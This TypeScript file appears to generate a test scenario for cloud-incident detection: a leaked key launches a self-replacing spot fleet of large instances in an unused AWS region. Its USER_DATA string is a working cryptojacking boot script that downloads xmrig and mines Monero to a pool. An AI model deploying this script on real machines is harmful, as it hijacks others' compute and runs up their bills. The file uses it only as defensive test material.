/**
 * scenarios/spot-fleet-relaunch: a leaked key creates a "maintain" spot fleet of c5.18xlarge in
 * eu-west-1, a region the account (us-west-2) never used. At 19:40 the on-call engineer terminates
 * the six instances by hand; the fleet replaces all of them within six minutes. The spot fleet, not
 * the instances, is what must be cancelled.
 * Run: npx tsx scripts/scenarios/spot-fleet-relaunch.ts [--ids]
 */
import {
  type AccountSpec,
  buildAccount,
  isMain,
  iso,
  ordinaryCompany,
  pinned,
  poolTrickle,
  stableId,
  type WorkloadSpec,
  walletAddress,
  writeScenario,
} from "./account-builder.js";

const HOME = "us-west-2";
const REGION = "eu-west-1";
const FIRST_WAVE = Date.parse("2026-11-22T13:05:31Z");
const TERMINATED = "2026-11-22T19:40:00.000Z";
const SECOND_WAVE = Date.parse("2026-11-22T19:43:02Z");
const FLEET_ID = "sfr-4c3f1a7e-9b2d-4e51-8a0c-6d2f9e8b7a13";

const USER_DATA = [
  "#!/bin/bash",
  "sysctl -w vm.nr_hugepages=1280",
  "cd /var/tmp && curl -sLO https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz",
  "tar xzf xmrig-6.22.2-linux-static-x64.tar.gz && cd xmrig-6.22.2",
  `./xmrig -o gulf.moneroocean.stream:10128 -u ${walletAddress("spot-fleet-wallet")} -p fleet --randomx-1gb-pages -B`,
  "",
].join("\n");

function wave(label: string, start: number, end?: string): WorkloadSpec[] {
  return Array.from({ length: 6 }, (_, k) => ({
    name: `fleet-${label}-${k + 1}`,
    image: "amzn2-eu-west-1",
    region: REGION,
    instanceType: "c5.18xlarge",
    launchTime: iso(start + k * 4_000),
    ...(end ? { state: "terminated" as const, endTime: end } : {}),
    lifecycle: "spot" as const,
    spotInstanceRequestId: stableId("sir", `${label}-${k}`),
    publicIpPrefixes: ["34.240", "52.16"],
    userData: USER_DATA,
    tags: { "aws:ec2spot:fleet-request-id": FLEET_ID },
    cpu: pinned,
    networkOut: poolTrickle,
    packetBytes: 150,
  }));
}

export const spec: AccountSpec = {
  scenario: "spot-fleet-relaunch",
  description: "Maintain-type spot fleet of c5.18xlarge in an unused region, relaunching after a manual termination",
  accountId: "409182736450",
  windowEnd: "2026-11-23T08:00:00.000Z",
  homeRegions: [HOME],
  workloads: [
    ...ordinaryCompany({ region: HOME, prefix: "atlas", utcOffsetHours: -8, since: "2026-02-17T17:00:00Z" }),
    ...wave("a", FIRST_WAVE, TERMINATED),
    ...wave("b", SECOND_WAVE),
  ],
  extra: {
    relaunch: {
      regionsRead: [HOME, REGION],
      fleets: [
        {
          id: FLEET_ID,
          region: REGION,
          kind: "spot-fleet",
          type: "maintain",
          state: "active",
          createTime: "2026-11-22T13:05:02.000Z",
          targetCapacity: 6,
          instanceTypes: ["c5.18xlarge"],
        },
      ],
    },
  },
};

export const build = () => buildAccount(spec);
if (isMain(import.meta.url)) writeScenario(spec);
